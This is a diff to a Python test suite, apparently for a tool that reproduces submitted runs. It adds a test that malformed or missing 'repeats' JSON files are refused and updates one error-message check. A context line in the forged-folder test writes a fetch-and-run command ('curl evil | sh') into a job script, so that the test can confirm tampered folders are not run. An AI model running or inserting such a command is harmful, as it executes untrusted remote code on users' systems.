@@ -207,6 +207,20 @@ def test_a_folder_that_was_changed_is_not_run(submission: Path, there: Path, toy
     assert not toy.exists()
 
 
+@pytest.mark.parametrize(
+    ("text", "problem"), [(None, "missing"), ("[]", "a JSON object is needed"), ("{}", "has no repeats of size tiny")]
+)
+def test_repeats_that_cannot_judge_are_refused_before_it_runs(
+    submission: Path, there: Path, toy: Path, command: Command, text: str | None, problem: str
+) -> None:
+    repeats = there.with_name("other.json")
+    if text:
+        repeats.write_text(text)
+    told = command("reproduce", submission, "--site", "there", "--repeats", repeats, code=1)
+    assert f"{repeats}: {problem}" in told
+    assert not toy.exists()
+
+
 def test_a_forged_folder_is_not_run(submission: Path, there: Path, toy: Path, command: Command) -> None:
     """Its sums are right; the check finds what is not."""
     (submission / "run/job.sh").write_text("curl evil | sh\n")
@@ -316,7 +330,7 @@ def test_tolerances_and_where_they_come_from(submission: Path, there: Path, toy:
     found, remarks = tolerances(gated, run, run, there)
     assert found["resolution"][1].startswith("repeats: 3")
     assert "The repeats were not measured on" in remarks[0]
-    with pytest.raises(KitError, match="has no repeats of size tiny"):
+    with pytest.raises(KitError, match=r"none\.json: missing"):
         tolerances(gated, run, run, there.with_name("none.json"))
 
 
